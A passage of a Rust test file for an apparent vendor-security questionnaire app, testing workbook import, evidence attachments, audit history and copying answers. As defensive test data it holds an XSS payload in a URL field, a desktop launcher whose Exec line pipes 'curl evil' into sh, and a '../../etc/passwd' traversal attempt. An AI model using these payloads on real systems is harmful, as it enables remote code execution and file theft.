        store.questionnaire_text(copy).unwrap(),
        store.questionnaire_text(id).unwrap()
    );
    let strip = |answers: Vec<assay::store::StoredAnswer>| {
        let mut a: Vec<_> = answers.into_iter().map(|a| (a.answer, a.files)).collect();
        a.sort_by(|x, y| x.0.question.cmp(&y.0.question));
        a
    };
    assert_eq!(
        store.vendors(copy).unwrap().len(),
        store.vendors(id).unwrap().len()
    );
    assert_eq!(
        strip(store.evaluation_answers(copy).unwrap()),
        strip(store.evaluation_answers(id).unwrap())
    );
    // Same scores, ranking and gates (the copies are new vendors, with new ids).
    let rows = |e: i64, store: &mut Store| {
        let mut rows = comparison_view(&store.comparison(e).unwrap()).vendors;
        rows.iter_mut().for_each(|r| r.vendor_id = 0);
        rows
    };
    assert_eq!(rows(id, &mut store), rows(copy, &mut store));
    // Audit rows for the evaluation, every vendor and every answer.
    let log = store.audit_log(copy).unwrap();
    assert_eq!(log.iter().filter(|r| r.entity == "evaluation").count(), 1);
    assert_eq!(log.iter().filter(|r| r.entity == "vendor").count(), 8);
    assert_eq!(
        log.iter().filter(|r| r.entity == "answer").count(),
        store.evaluation_answers(copy).unwrap().len()
    );
    assert!(store.duplicate_evaluation(id, " ").is_err());
    assert!(store.duplicate_evaluation(999_999, "x").is_err());

    store.delete_evaluation(copy).unwrap();
    assert!(store.evaluation(copy).is_err());
    assert_eq!(store.list_evaluations().unwrap().len(), 1);
}

/// The app's workbook exchange: the blank workbook comes from the snapshot; a
/// broken CSV yields located problems and writes nothing; a good one previews its
/// changes, is refused when the file changed, and is applied all at once.
#[test]
fn workbook_preview_then_apply_for_one_vendor() {
    use assay::app::ImportPreview;
    use assay::workbook::WbLang;
    let mut store = Store::open_in_memory().unwrap();
    let eval = assay::app::create_evaluation(
        &mut store,
        &LoadedQuestionnaires::default(),
        &EvaluationEdit {
            name: "Workbook".into(),
            profiles: vec![],
            ..evaluation_edit()
        },
    )
    .unwrap()
    .id;
    let vendors = assay::app::add_vendor(&mut store, eval, &vendor_edit("Acme")).unwrap();
    let vendor = vendors[0].id;
    let blank = assay::app::blank_workbook(&mut store, eval, WbLang::Both).unwrap();
    assert!(blank.starts_with(b"PK"));
    let today = chrono::NaiveDate::from_ymd_opt(2027, 1, 15).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let header = "question_id,answer,comment,evidence_identifier,issuer,expiry_date,source\n";

    let broken = dir.path().join("broken.csv");
    std::fs::write(
        &broken,
        format!("{header}TRN-02,Maybe,,,,,\nNOPE-1,yes,,,,,\n"),
    )
    .unwrap();
    let mut imports = assay::app::PreviewedImport::default();
    match imports
        .preview_path(&mut store, eval, vendor, &broken, today)
        .unwrap()
    {
        ImportPreview::Problems { file, problems } => {
            assert_eq!(file, "broken.csv");
            assert!(problems.len() >= 2, "{problems:?}");
            assert!(
                problems.iter().all(|p| p.en.starts_with("row ")),
                "{problems:?}"
            );
            // The preview in Chinese: the same place, the sentence in Chinese.
            assert!(
                problems.iter().any(|p| p
                    .zh_cn
                    .starts_with("row 2, column answer：“Maybe”不是可选回答之一：")),
                "{problems:?}"
            );
        }
        other => panic!("expected problems, got {other:?}"),
    }
    assert!(store.answers(vendor).unwrap().is_empty());

    let good = dir.path().join("acme.csv");
    std::fs::write(&good, format!("{header}TRN-02,yes,,,,,\nIRV-01,96,,,,,\n")).unwrap();
    // The app's way: the questionnaire with the store, the file read without it.
    let q = assay::app::import_questionnaire(&mut store, eval, vendor).unwrap();
    let read = assay::app::read_for_preview(&q, vendor, &good, today).unwrap();
    let preview = imports.preview(&mut store, eval, read).unwrap();
    let ImportPreview::Ready {
        sha256, changes, ..
    } = preview
    else {
        panic!("expected a preview, got {preview:?}");
    };
    assert_eq!(changes.len(), 2, "{changes:?}");
    assert!(changes.iter().all(|c| c.old.is_none()));
    // Changed on disk after the preview: refused, nothing written.
    let original = std::fs::read(&good).unwrap();
    std::fs::write(&good, format!("{header}TRN-02,no,,,,,\n")).unwrap();
    let stale = imports.apply_path(&mut store, eval, vendor, &good, &sha256, today);
    assert!(stale
        .unwrap_err()
        .to_string()
        .contains("the file changed since the preview"));
    assert!(store.answers(vendor).unwrap().is_empty());
    std::fs::write(&good, original).unwrap();
    let read = assay::app::read_for_preview(&q, vendor, &good, today).unwrap();
    let n = imports.apply(&mut store, eval, read, &sha256).unwrap();
    assert_eq!(n, 2);
    let stored = store.answers(vendor).unwrap();
    assert_eq!(stored.len(), 2);
    // Another evaluation's id with this vendor is refused.
    assert!(imports
        .preview_path(&mut store, eval + 999, vendor, &good, today)
        .is_err());
    let xlsx = assay::app::comparison_workbook(&mut store, eval, assay::Lang::En).unwrap();
    assert!(xlsx.starts_with(b"PK"));
}

/// Only the file previewed last, for the same vendor and content, can be applied,
/// once: the page cannot make the app read a path it did not pick.
#[test]
fn only_the_previewed_workbook_is_applied() {
    use assay::app::{ImportPreview, PreviewedImport};
    let mut store = Store::open_in_memory().unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    let other = app::add_vendor(&mut store, evaluation, &vendor_edit("Beta")).unwrap()[1].id;
    let today = chrono::NaiveDate::from_ymd_opt(2027, 1, 15).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let header = "question_id,answer,comment,evidence_identifier,issuer,expiry_date,source\n";
    let good = dir.path().join("acme.csv");
    std::fs::write(&good, format!("{header}TRN-02,yes,,,,,\n")).unwrap();
    let elsewhere = dir.path().join("elsewhere.csv");
    std::fs::copy(&good, &elsewhere).unwrap();
    let sha256 = assay::store::sha256_hex(&std::fs::read(&good).unwrap());
    let mut imports = PreviewedImport::default();
    let refused = |r: Result<u32, assay::store::StoreError>| {
        let text = r.unwrap_err().text();
        assert_eq!(
            text.en,
            "Preview this file for this vendor before applying it."
        );
        assert_eq!(text.zh_cn, "请先为该供应商预览此文件，再导入。");
    };

    refused(imports.apply_path(&mut store, evaluation, vendor, &good, &sha256, today));
    let preview = imports
        .preview_path(&mut store, evaluation, vendor, &good, today)
        .unwrap();
    assert!(
        matches!(&preview, ImportPreview::Ready { sha256: s, .. } if *s == sha256),
        "{preview:?}"
    );
    refused(imports.apply_path(&mut store, evaluation, other, &good, &sha256, today));
    refused(imports.apply_path(&mut store, evaluation, vendor, &elsewhere, &sha256, today));
    refused(imports.apply_path(&mut store, evaluation, vendor, &good, "00", today));
    assert!(store.answers(vendor).unwrap().is_empty());
    let written = imports.apply_path(&mut store, evaluation, vendor, &good, &sha256, today);
    assert_eq!(written.unwrap(), 1);
    assert_eq!(store.answers(vendor).unwrap().len(), 1);
    refused(imports.apply_path(&mut store, evaluation, vendor, &good, &sha256, today));

    // A file with problems is not remembered: the earlier preview still applies.
    imports
        .preview_path(&mut store, evaluation, vendor, &good, today)
        .unwrap();
    let broken = dir.path().join("broken.csv");
    std::fs::write(&broken, format!("{header}TRN-02,Maybe,,,,,\n")).unwrap();
    let problems = imports.preview_path(&mut store, evaluation, vendor, &broken, today);
    assert!(matches!(problems, Ok(ImportPreview::Problems { .. })));
    let again = imports.apply_path(&mut store, evaluation, vendor, &good, &sha256, today);
    assert_eq!(again.unwrap(), 0, "the answer is already stored");
}

fn evidence_edit(kind: assay::answers::EvidenceKind) -> app::EvidenceEdit {
    app::EvidenceEdit {
        kind,
        identifier: None,
        issuer: None,
        scope: None,
        issued: None,
        expires: None,
        url: None,
    }
}

#[test]
fn evidence_is_added_attached_and_removed_and_the_claim_becomes_supported() {
    use app::EvidenceValidity;
    use assay::answers::EvidenceKind;
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("a.db")).unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    // No answer yet: refused in plain words.
    let err = app::add_evidence(
        &mut store,
        vendor,
        "IRV-01",
        &evidence_edit(EvidenceKind::ContractClause),
    )
    .unwrap_err();
    // The app shows the sentence in the user's language; the command line, English.
    let text = err.text();
    assert_eq!(text.en, "Answer IRV-01 before adding evidence to it.");
    assert_eq!(text.zh_cn, "请先回答 IRV-01，再为其添加证据。");
    assert_eq!(err.to_string(), format!("evidence: {}", text.en));
    let claimed =
        app::save_answer(&mut store, vendor, &edit("IRV-01", EditValue::Number(24.0))).unwrap();
    let q = question(&claimed, "IRV-01");
    assert_eq!(q.result.evidence, assay::scoring::EvidenceStatus::Claimed);
    assert!(q.evidence.is_empty());
    let before = claimed.total_points;

    // Bad dates are refused, nothing is written.
    let mut bad = evidence_edit(EvidenceKind::ContractClause);
    bad.issued = Some("2027-02-30".into());
    let err = app::add_evidence(&mut store, vendor, "IRV-01", &bad)
        .unwrap_err()
        .to_string();
    assert!(err.contains("not a date"), "{err}");
    bad.issued = Some("2027-03-01".into());
    bad.expires = Some("2027-01-01".into());
    let refused = app::add_evidence(&mut store, vendor, "IRV-01", &bad).unwrap_err();
    let err = refused.to_string();
    assert!(err.contains("after the expiry date"), "{err}");
    assert!(refused.text().zh_cn.contains("晚于"), "{err}");
    // Every store error has a Chinese sentence too; a detail from elsewhere is quoted.
    let missing = assay::store::StoreError::NoEvaluation(42).text();
    assert_eq!(
        (missing.en.as_str(), missing.zh_cn.as_str()),
        ("there is no evaluation with id 42", "没有编号为 42 的评估")
    );

    let audit_before = store.audit_log(evaluation).unwrap().len();
    let mut piece = evidence_edit(EvidenceKind::ContractClause);
    piece.identifier = Some(" DPA §7.2 ".into());
    piece.issued = Some("2026-06-01".into());
    piece.expires = Some("2027-03-01".into());
    piece.url = Some("<img src=x onerror=alert(1)>".into());
    let supported = app::add_evidence(&mut store, vendor, "IRV-01", &piece).unwrap();
    assert_eq!(store.audit_log(evaluation).unwrap().len(), audit_before + 1);
    let q = question(&supported, "IRV-01");
    assert_eq!(q.result.evidence, assay::scoring::EvidenceStatus::Supported);
    assert!(supported.total_points > before);
    assert_eq!(q.evidence.len(), 1);
    let e = &q.evidence[0];
    assert_eq!(e.identifier.as_deref(), Some("DPA §7.2"));
    assert_eq!(e.url.as_deref(), Some("<img src=x onerror=alert(1)>"));
    assert_eq!(e.expires.as_deref(), Some("2027-03-01"));
    // As of 2027-01-15, expiring 2027-03-01: within 90 days.
    assert_eq!(e.validity, EvidenceValidity::ExpiringSoon);
    assert_eq!(e.file_sha256, None);

    let file = dir.path().join("dpa.pdf");
    std::fs::write(&file, b"%PDF-1.7 the DPA").unwrap();
    let attached = app::attach_evidence_file(&mut store, vendor, "IRV-01", 0, &file).unwrap();
    let sha = assay::store::sha256_hex(b"%PDF-1.7 the DPA");
    assert_eq!(
        question(&attached, "IRV-01").evidence[0]
            .file_sha256
            .as_deref(),
        Some(sha.as_str())
    );
    assert!(app::attach_evidence_file(&mut store, vendor, "IRV-01", 3, &file).is_err());

    let removed = app::remove_evidence(&mut store, vendor, "IRV-01", 0).unwrap();
    let q = question(&removed, "IRV-01");
    assert!(q.evidence.is_empty());
    assert_eq!(q.result.evidence, assay::scoring::EvidenceStatus::Claimed);
    assert_eq!(removed.total_points, before);
    assert!(app::remove_evidence(&mut store, vendor, "IRV-01", 0).is_err());
}

#[test]
fn evidence_in_one_step_starts_from_the_question_and_keeps_the_files_name() {
    use assay::answers::EvidenceKind;
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("a.db")).unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    app::save_answer(
        &mut store,
        vendor,
        &edit("CRT-01", text("iso2022-covers-service")),
    )
    .unwrap();
    let form = app::save_answer(&mut store, vendor, &edit("CRT-02", text("2027-10-31"))).unwrap();

    // The add form's starting values: the kind the question's ask_for points to,
    // and the expiry date the answer already gives (not typed twice).
    let draft = |form: &FormView, id: &str| question(form, id).evidence_rule.clone().unwrap().draft;
    let crt02 = draft(&form, "CRT-02");
    assert_eq!(crt02.kind, EvidenceKind::Certificate);
    assert_eq!(crt02.expires.as_deref(), Some("2027-10-31"));
    assert_eq!(crt02.issued, None);
    assert_eq!(draft(&form, "IRV-01").kind, EvidenceKind::ContractClause);
    assert_eq!(draft(&form, "IRV-01").expires, None);
    use assay::questionnaire::EvidenceField as F;
    assert_eq!(
        app::evidence_kind_for(&[F::Issuer, F::ReportPeriod, F::Scope]),
        EvidenceKind::AuditReport
    );
    assert_eq!(
        app::evidence_kind_for(&[F::VerificationUrl, F::IssueDate]),
        EvidenceKind::Url
    );
    assert_eq!(
        app::evidence_kind_for(&[F::IssueDate, F::Scope]),
        EvidenceKind::Other
    );

    // One step: the piece and its file together, the file's name kept.
    let file = dir.path().join("ISO 27001 certificate 2025.pdf");
    std::fs::write(&file, b"%PDF-1.7 the certificate").unwrap();
    let mut piece = evidence_edit(crt02.kind);
    piece.identifier = Some("ISMS 01234".into());
    piece.expires = crt02.expires.clone();
    let audit_before = store.audit_log(evaluation).unwrap().len();
    let added = app::add_evidence_and_file(&mut store, vendor, "CRT-02", &piece, &file).unwrap();
    assert_eq!(
        store.audit_log(evaluation).unwrap().len(),
        audit_before + 1,
        "one audit row"
    );
    let e = &question(&added, "CRT-02").evidence[0];
    let sha = assay::store::sha256_hex(b"%PDF-1.7 the certificate");
    assert_eq!(e.file_sha256.as_deref(), Some(sha.as_str()));
    assert_eq!(
        e.file_name.as_deref(),
        Some("ISO 27001 certificate 2025.pdf")
    );

    // A file that cannot be read leaves no piece behind.
    let err =
        app::add_evidence_and_file(&mut store, vendor, "CRT-02", &piece, dir.path()).unwrap_err();
    assert!(!err.to_string().is_empty());
    assert_eq!(
        question(&app::form(&mut store, vendor).unwrap(), "CRT-02")
            .evidence
            .len(),
        1
    );

    // The same bytes attached again under another name keep their first name.
    let again = dir.path().join("copy.pdf");
    std::fs::write(&again, b"%PDF-1.7 the certificate").unwrap();
    let form = app::add_evidence_and_file(&mut store, vendor, "CRT-02", &piece, &again).unwrap();
    assert_eq!(
        question(&form, "CRT-02").evidence[1].file_name.as_deref(),
        Some("ISO 27001 certificate 2025.pdf")
    );

    // Opening: a copy under its name, checked against its hash.
    let open_dir = dir.path().join("open");
    let copy = app::attachment_copy(&store, &sha, &open_dir).unwrap();
    assert_eq!(copy.file_name().unwrap(), "ISO 27001 certificate 2025.pdf");
    assert!(copy.starts_with(&open_dir));
    assert_eq!(std::fs::read(&copy).unwrap(), b"%PDF-1.7 the certificate");
    std::fs::write(dir.path().join("files").join(&sha), b"edited").unwrap();
    let tampered = app::attachment_copy(&store, &sha, &open_dir)
        .unwrap_err()
        .to_string();
    assert!(tampered.contains(&sha[..12]), "{tampered}");
    assert!(app::attachment_copy(&store, "../../etc/passwd", &open_dir).is_err());
    // A file that could run when opened (a launcher, a script) stays stored but
    // is not handed to the default app: refused in words, no copy written.
    let launcher = dir.path().join("invoice.desktop");
    std::fs::write(&launcher, b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n").unwrap();
    app::add_evidence_and_file(&mut store, vendor, "CRT-02", &piece, &launcher).unwrap();
    let launcher_sha = assay::store::sha256_hex(b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n");
    let refused = app::attachment_copy(&store, &launcher_sha, &open_dir).unwrap_err();
    assert!(
        refused.text().en.contains("“invoice.desktop” stays stored"),
        "{refused}"
    );
    assert!(refused.text().zh_cn.contains("不会被打开"), "{refused}");
    assert!(
        !open_dir.join(&launcher_sha[..12]).exists(),
        "a copy was written"
    );
}

#[test]
fn attachment_names_are_plain_file_names() {
    use assay::store::attachment_name;
    use std::path::Path;
    assert_eq!(
        attachment_name(Path::new("/tmp/a/report.pdf")).as_deref(),
        Some("report.pdf")
    );
    assert_eq!(
        attachment_name(Path::new("/tmp/a/.hidden")).as_deref(),
        Some("hidden")
    );
    assert_eq!(
        attachment_name(Path::new("/tmp/a/line\nbreak.pdf")).as_deref(),
        Some("line_break.pdf")
    );
    assert_eq!(attachment_name(Path::new("/")), None);
    // At most 255 bytes (what file systems allow, so "Open" can write the copy),
    // cut in the stem at a character boundary; the extension stays.
    let long = attachment_name(Path::new(&format!("/tmp/{}.pdf", "长".repeat(300)))).unwrap();
    assert!(long.len() <= 255, "{} bytes", long.len());
    assert_eq!(long, format!("{}.pdf", "长".repeat(83)));
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(&long), b"x").expect("the file system takes the name");
    let no_ext = attachment_name(Path::new(&"a".repeat(400))).unwrap();
    assert_eq!(no_ext.len(), 255);
}

#[test]
fn evidence_validity_at_the_as_of_date() {
    use app::{evidence_validity, EvidenceValidity};
    use assay::answers::{Evidence, EvidenceKind};
    let d = |s: &str| chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap();
    let piece = |issued: Option<&str>, expires: Option<&str>| Evidence {
        kind: EvidenceKind::Certificate,
        identifier: None,
        issuer: None,
        scope: None,
        issued: issued.map(d),
        expires: expires.map(d),
        url: None,
    };
    let as_of = d("2027-01-15");
    assert_eq!(
        evidence_validity(&piece(None, None), as_of),
        EvidenceValidity::Valid
    );
    assert_eq!(
        evidence_validity(&piece(None, Some("2028-01-01")), as_of),
        EvidenceValidity::Valid
    );
    assert_eq!(
        evidence_validity(&piece(None, Some("2027-04-15")), as_of),
        EvidenceValidity::ExpiringSoon
    );
    assert_eq!(
        evidence_validity(&piece(None, Some("2027-01-14")), as_of),
        EvidenceValidity::Expired
    );
    assert_eq!(
        evidence_validity(&piece(Some("2027-02-01"), None), as_of),
        EvidenceValidity::NotYetValid
    );
}

#[test]
fn a_vendor_is_edited_with_its_audit_row_and_names_stay_unique() {
    let mut store = Store::open_in_memory().unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    app::add_vendor(&mut store, evaluation, &vendor_edit("Beta")).unwrap();
    let audit = store.audit_log(evaluation).unwrap().len();
    let details = VendorEdit {
        name: "  Acme Secure Chat ".into(),
        product: Some("Acme Gov".into()),
        deployment: Some(assay::store::Deployment::OnPremises),
        notes: Some("met on 3 March".into()),
    };
    let list = app::update_vendor(&mut store, vendor, &details).unwrap();
    assert_eq!(list[0].name, "Acme Secure Chat");
    assert_eq!(list[0].product.as_deref(), Some("Acme Gov"));
    assert_eq!(list[0].notes, "met on 3 March");
    let log = store.audit_log(evaluation).unwrap();
    assert_eq!(log.len(), audit + 1);
    let last = log.iter().max_by_key(|a| a.id).unwrap();
    assert_eq!(
        (last.entity.as_str(), last.action.as_str()),
        ("vendor", "update")
    );
    let view = comparison_view(&store.comparison(evaluation).unwrap());
    assert!(view.vendors.iter().any(|v| v.name == "Acme Secure Chat"));
    // Duplicate and empty names are refused.
    for name in ["Beta", "  "] {
        assert!(app::update_vendor(&mut store, vendor, &vendor_edit(name)).is_err());
    }
    // The same details again: nothing written.
    let same = VendorEdit {
        name: "Acme Secure Chat".into(),
        ..details
    };
    app::update_vendor(&mut store, vendor, &same).unwrap();
    assert_eq!(store.audit_log(evaluation).unwrap().len(), audit + 1);
}

/// A value the history shows alike in both languages (a name, a date).
fn same(s: &str) -> assay::Text {
    assay::Text {
        en: s.into(),
        zh_cn: s.into(),
    }
}

/// The app's history: newest first, each change reduced to the fields that
/// changed (old → new), bookkeeping fields left out.
#[test]
fn the_history_lists_changes_newest_first_with_only_the_fields_that_changed() {
    use assay::app::evaluations::{audit_lines, edit_details, DetailsEdit, FieldChange};
    let mut store = Store::open_in_memory().unwrap();
    let id = store
        .create_evaluation(&assay::store::fixtures::synthetic_evaluation(3))
        .unwrap();
    let before = store.evaluation(id).unwrap();
    edit_details(
        &mut store,
        id,
        &DetailsEdit {
            name: Some("Renamed".into()),
            evaluators: Some(vec!["Li Wen".into()]),
            ..DetailsEdit::default()
        },
    )
    .unwrap();
    let lines = audit_lines(&mut store, id).unwrap();
    assert_eq!(lines.len(), 2);
    assert_eq!(
        (lines[0].action.as_str(), lines[0].entity.as_str()),
        ("update", "evaluation")
    );
    assert_eq!(
        lines[0].changes,
        [
            // Plain words in both languages; a list as "a, b", not JSON.
            FieldChange {
                field: "evaluators".into(),
                label: assay::Text {
                    en: "Evaluators".into(),
                    zh_cn: "评估人".into(),
                },
                old: (!before.evaluators.is_empty()).then(|| same(&before.evaluators.join(", "))),
                new: Some(same("Li Wen")),
            },
            FieldChange {
                field: "name".into(),
                label: assay::Text {
                    en: "Name".into(),
                    zh_cn: "名称".into(),
                },
                old: Some(same(&before.name)),
                new: Some(same("Renamed")),
            },
        ]
    );
    assert_eq!(lines[1].action, "create");
    assert!(lines[1].changes.iter().all(|c| c.old.is_none()));
    assert!(!lines[1]
        .changes
        .iter()
        .any(|c| c.field == "updated_at" || c.field == "id"));
}

#[test]
fn a_section_is_marked_not_applicable_in_one_step_and_answers_given_stay() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("a.db")).unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    // TRN-05 already N/A for its own reason; TRN-10 has a comment only.
    let own_reason = AnswerEdit {
        question: "TRN-05".into(),
        na: Some("on-premises only".into()),
        ..AnswerEdit::default()
    };
    app::save_answer(&mut store, vendor, &own_reason).unwrap();
    let commented = AnswerEdit {
        question: "TRN-10".into(),
        comment: Some("ask the architect".into()),
        ..AnswerEdit::default()
    };
    app::save_answer(&mut store, vendor, &commented).unwrap();
    let audit_before = store.audit_log(evaluation).unwrap().len();

    // Refused, nothing written: a blank reason, an unknown section, a section
    // where nothing may be marked (KEY allows no N/A).
    let text = |e: StoreError| e.text();
    let blank = app::mark_section_not_applicable(&mut store, vendor, "TRN", "  ").unwrap_err();
    assert_eq!(text(blank).zh_cn, "请填写这些问题不适用的理由。");
    let unknown = app::mark_section_not_applicable(&mut store, vendor, "ZZZ", "x").unwrap_err();
    assert!(text(unknown)
        .en
        .starts_with("There is no section ZZZ (sections: TRN, E2E"));
    let none = app::mark_section_not_applicable(&mut store, vendor, "KEY", "x").unwrap_err();
    assert!(text(none).en.contains("No question of KEY can be marked"));
    assert_eq!(store.audit_log(evaluation).unwrap().len(), audit_before);

    // The form says what the action would mark (the app offers it from this).
    let before = app::form(&mut store, vendor).unwrap();
    let trn = before.sections.iter().find(|s| s.id == "TRN").unwrap();
    assert_eq!(trn.na_candidates, ["TRN-10"]);
    let key = before.sections.iter().find(|s| s.id == "KEY").unwrap();
    assert!(key.na_candidates.is_empty());
    let done =
        app::mark_section_not_applicable(&mut store, vendor, "TRN", "no cloud deployment").unwrap();
    assert_eq!(done.marked, ["TRN-10"]);
    assert_eq!(
        done.answered, 1,
        "TRN-05 was answered (N/A with its own reason)"
    );
    let trn = done.form.sections.iter().find(|s| s.id == "TRN").unwrap();
    let open = trn
        .questions
        .iter()
        .filter(|q| q.visible && q.answer.is_none())
        .count();
    assert_eq!(done.not_allowed, open, "the rest stay open");
    let answer = |id: &str| store.answer(vendor, id).unwrap().unwrap().answer;
    assert_eq!(answer("TRN-05").na.as_deref(), Some("on-premises only"));
    let trn10 = answer("TRN-10");
    assert_eq!(trn10.na.as_deref(), Some("no cloud deployment"));
    assert_eq!(
        trn10.comment.as_deref(),
        Some("ask the architect"),
        "the comment stays"
    );
    assert_eq!(
        store.audit_log(evaluation).unwrap().len(),
        audit_before + 1,
        "an audit row per answer"
    );

    // Again: nothing left to mark.
    assert!(app::mark_section_not_applicable(&mut store, vendor, "TRN", "x").is_err());
    // The samples are read-only.
    let example = app::evaluations::example(&mut store).unwrap();
    let sample_vendor = store.vendors(example).unwrap()[0].id;
    let refused =
        app::mark_section_not_applicable(&mut store, sample_vendor, "TRN", "x").unwrap_err();
    assert!(refused.to_string().contains("read-only"), "{refused}");
}

/// Adds a vendor named `name` to `evaluation`; returns its id.
fn add_vendor_named(store: &mut Store, evaluation: i64, name: &str) -> i64 {
    let added = app::add_vendor(store, evaluation, &vendor_edit(name)).unwrap();
    added.iter().find(|v| v.name == name).unwrap().id
}

#[test]
fn answers_are_copied_from_another_evaluation_of_the_same_product_into_blank_questions_only() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("a.db")).unwrap();
    let example = app::evaluations::example(&mut store).unwrap();
    let source = store.vendors(example).unwrap()[0].clone();
    assert!(source.name.starts_with("Skerrymoor Relay"));
    let (evaluation, acme) = new_evaluation(&mut store);
    let vendor = add_vendor_named(&mut store, evaluation, &source.name);
    // Recorded here before the copy: an answer, and a comment alone.
    app::save_answer(&mut store, vendor, &edit("TRN-02", text("no"))).unwrap();
    let commented = AnswerEdit {
        question: "TRN-10".into(),
        comment: Some("ask the architect".into()),
        ..AnswerEdit::default()
    };
    app::save_answer(&mut store, vendor, &commented).unwrap();

    // The same product is offered first; the evaluation's own vendors are not.
    let sources = app::copy_sources(&mut store, vendor).unwrap();
    assert_eq!(sources[0].vendor_id, source.id);
    assert!(sources[0].same_product);
    assert!(sources[1..].iter().all(|s| !s.same_product));
    assert!(sources.iter().all(|s| s.evaluation_id == example));
    let stated = store
        .answers(source.id)
        .unwrap()
        .into_iter()
        .filter(|s| s.answer.value.is_some() || s.answer.na.is_some() || s.answer.state.is_some())
        .collect::<Vec<_>>();
    let awaiting = stated
        .iter()
        .filter(|s| s.answer.state == Some(assay::answers::AnswerState::AwaitingVendor))
        .count();
    assert_eq!(sources[0].answered, stated.len() - awaiting);

    // The preview writes nothing and says what stays.
    let audit_before = store.audit_log(evaluation).unwrap().len();
    let plan = app::plan_copy_answers(&mut store, source.id, vendor).unwrap();
    assert_eq!(plan.kept, ["TRN-02", "TRN-10"]);
    assert!(plan.not_fitting.is_empty());
    assert_eq!(plan.copy.len(), sources[0].answered - 2);
    assert_eq!(plan.copy[0], "TRN-01", "in the questionnaire's order");
    assert_eq!(store.audit_log(evaluation).unwrap().len(), audit_before);

    let done = app::copy_answers(&mut store, source.id, vendor).unwrap();
    assert_eq!(done.plan, plan);
    let here = |store: &Store, q: &str| store.answer(vendor, q).unwrap().unwrap().answer;
    let there = |store: &Store, q: &str| store.answer(source.id, q).unwrap().unwrap().answer;
    // Value, source with its date, evidence: as they were.
    assert_eq!(here(&store, "TRN-01"), there(&store, "TRN-01"));
    assert!(!here(&store, "TRN-01").evidence.is_empty());
    assert_eq!(
        here(&store, "TRN-02").value,
        Some(assay::answers::AnswerValue::Text("no".into()))
    );
    assert_eq!(
        here(&store, "TRN-10").comment.as_deref(),
        Some("ask the architect")
    );
    assert_eq!(here(&store, "TRN-10").value, None);
    let answered_in_form = done
        .form
        .sections
        .iter()
        .flat_map(|s| &s.questions)
        .filter(|q| q.answer.is_some())
        .count();
    assert!(
        answered_in_form >= plan.copy.len(),
        "the form comes back re-scored"
    );
    // One audit row per copied answer, naming where it came from.
    let log = store.audit_log(evaluation).unwrap();
    let copies: Vec<_> = log.iter().filter(|a| a.action == "copy").collect();
    assert_eq!(copies.len(), plan.copy.len());
    assert_eq!(log.len(), audit_before + plan.copy.len());
    let from = copies[0].imported_from.as_deref().unwrap();
    assert!(
        from.contains(&source.name) && from.contains(&format!("(evaluation {example})")),
        "{from}"
    );

    // Refused, nothing written: again (nothing left), from itself, into the
    // read-only sample.
    let again = app::copy_answers(&mut store, source.id, vendor).unwrap_err();
    assert!(
        again
            .text()
            .en
            .starts_with("Nothing to copy from Skerrymoor"),
        "{again}"
    );
    assert!(
        again.text().zh_cn.starts_with("没有可从 Skerrymoor"),
        "{again}"
    );
    let own = app::copy_answers(&mut store, vendor, vendor).unwrap_err();
    assert_eq!(
        own.text().zh_cn,
        "请选择另一个供应商作为来源：这正是当前作答的供应商。"
    );
    let read_only = app::copy_answers(&mut store, vendor, source.id).unwrap_err();
    assert!(read_only.to_string().contains("read-only"), "{read_only}");
    assert_eq!(store.audit_log(evaluation).unwrap().len(), log.len());
    // The evaluation's own vendors are not offered as sources.
    let offered = app::copy_sources(&mut store, vendor).unwrap();
    assert!(offered.iter().all(|s| s.vendor_id != acme), "{offered:?}");
}

#[test]
fn copied_evidence_keeps_its_file_and_other_questionnaires_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("a.db")).unwrap();
    let (_, acme_2026) = new_evaluation(&mut store);
    app::save_answer(
        &mut store,
        acme_2026,
        &edit("CRT-01", text("iso2022-covers-service")),
    )
    .unwrap();
    let pdf = dir.path().join("iso-27001.pdf");
    std::fs::write(&pdf, b"%PDF-1.4 certificate").unwrap();
    let vendor_2026 = store.vendor(acme_2026).unwrap();
    let (_, sha) = app::answers::add_evidence_with_file(
        &mut store,
        &vendor_2026,
        "CRT-01",
        &evidence_edit(assay::answers::EvidenceKind::Certificate),
        Some(&pdf),
    )
    .unwrap();
    let (_, acme_2027) = new_evaluation(&mut store);
    let done = app::copy_answers(&mut store, acme_2026, acme_2027).unwrap();
    assert_eq!(done.plan.copy, ["CRT-01"]);
    let copied = store.answer(acme_2027, "CRT-01").unwrap().unwrap();
    assert_eq!(copied.files, std::slice::from_ref(&sha));
    assert_eq!(
        store.read_file(&sha.unwrap()).unwrap(),
        b"%PDF-1.4 certificate"
    );

    // An evaluation of another questionnaire: not offered, and refused by name.
    let other =
        crate::support::evaluation_of_fixture(&mut store, "mini-questionnaire.json", "Mini");
    let mini_vendor = add_vendor_named(&mut store, other, "Acme Chat");
    assert!(app::copy_sources(&mut store, mini_vendor)
        .unwrap()
        .is_empty());
    let refused = app::plan_copy_answers(&mut store, acme_2026, mini_vendor).unwrap_err();
    assert!(
        refused.text().en.contains("uses another questionnaire"),
        "{refused}"
    );
}

#[test]
fn answers_from_an_older_questionnaire_version_are_copied_where_they_fit() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("a.db")).unwrap();
    let old = crate::support::evaluation_of_fixture(
        &mut store,
        "assay-im-security-1.0.0.json",
        "IM 2026",
    );
    let old_vendor = add_vendor_named(&mut store, old, "Acme Chat");
    // An option 1.0.0 had and later versions do not; a number both take.
    app::save_answer(
        &mut store,
        old_vendor,
        &edit("E2E-08", text("gt-90d-or-undocumented")),
    )
    .unwrap();
    app::save_answer(
        &mut store,
        old_vendor,
